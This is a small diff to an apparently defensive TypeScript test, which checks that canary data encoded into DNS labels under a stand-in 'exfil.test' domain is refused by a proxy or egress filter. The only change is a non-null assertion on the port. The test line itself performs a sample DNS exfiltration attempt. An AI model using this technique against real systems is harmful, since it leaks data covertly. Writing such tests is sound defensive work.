@@ -94,7 +94,7 @@ test("canaries: in a CONNECT authority, a plain-HTTP URL and a DNS name — refu
   const udp = createSocket("udp4");
   await new Promise<void>((done) => {
     udp.once("message", () => done());
-    udp.send(dnsQuery(`${labels}.exfil.test`), s.bundle.ports.dns, "127.0.0.1");
+    udp.send(dnsQuery(`${labels}.exfil.test`), s.bundle.ports.dns!, "127.0.0.1");
   });
   udp.close();
   expect(target.hits()).toBe(0);
